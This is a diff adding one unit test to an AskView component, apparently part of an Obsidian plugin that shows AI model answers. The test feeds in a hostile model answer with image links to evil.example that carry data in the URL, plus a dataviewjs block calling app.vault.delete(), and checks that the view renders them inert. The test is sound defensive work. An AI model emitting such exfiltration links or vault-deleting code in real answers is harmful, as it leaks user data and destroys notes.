@@ -75,6 +75,23 @@ describe("AskView", () => {
 		expect(conversations().map((c) => [c.id, c.title])).toEqual([[sent.conversation, "What leavens sourdough?"]]);
 	});
 
+	it("draws a model's image as a link and its query block inert: nothing is fetched or run", async () => {
+		const hostile = { ...ANSWER, answer: "Leaven it [1]. ![x](https://evil.example/?d=zafiro) <img src=https://evil.example/>\n\n```dataviewjs\napp.vault.delete()\n```" };
+		const drawn: string[] = [];
+		const render = vi.spyOn(MarkdownRenderer, "render").mockImplementation(async (_app, markdown) => void drawn.push(markdown));
+		try {
+			const { view } = setup(new ScriptedTransport([json(200, hostile)]));
+			await view.onOpen();
+			const input = view.contentEl.querySelector("textarea") as HTMLTextAreaElement;
+			input.value = "What leavens sourdough?";
+			input.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter" }));
+			await new Promise((ok) => setTimeout(ok, 0));
+		} finally {
+			render.mockRestore();
+		}
+		expect(drawn).toEqual(["Leaven it [1]. [x](https://evil.example/?d=zafiro) &lt;img src=https://evil.example/>\n\n```text dataviewjs\napp.vault.delete()\n```"]);
+	});
+
 	it("continues the same conversation and in private mode when toggled", async () => {
 		const transport = new ScriptedTransport([json(200, ANSWER), json(200, ANSWER)]);
 		const { view } = setup(transport);
